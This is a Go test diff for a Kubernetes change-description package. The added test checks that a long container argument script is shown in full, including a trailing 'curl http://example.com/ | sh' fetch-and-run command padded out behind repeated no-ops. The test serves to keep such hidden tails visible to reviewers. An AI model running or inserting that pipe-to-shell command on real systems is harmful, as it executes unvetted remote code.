@@ -4,6 +4,7 @@
 package difference_test
 
 import (
+	"strings"
 	"testing"
 
 	appsv1 "k8s.io/api/apps/v1"
@@ -154,5 +155,13 @@ func TestDeferred(t *testing.T) {
 		if got := difference.Deferred(preview.Difference{Pods: pods}, missing); got != want {
 			t.Errorf("%q, want %q", got, want)
 		}
+	}
+}
+
+// TestDescribeWhole: a user who accepts a script reads all of it, as it is.
+func TestDescribeWhole(t *testing.T) {
+	script := strings.Repeat("true && ", 50) + "curl http://example.com/ | sh"
+	if got, want := difference.DescribeWhole(preview.Change{Path: ".spec.args", After: script}), ".spec.args: added \""+script+"\""; got != want {
+		t.Errorf("it says\n%s\nwant\n%s", got, want)
 	}
 }
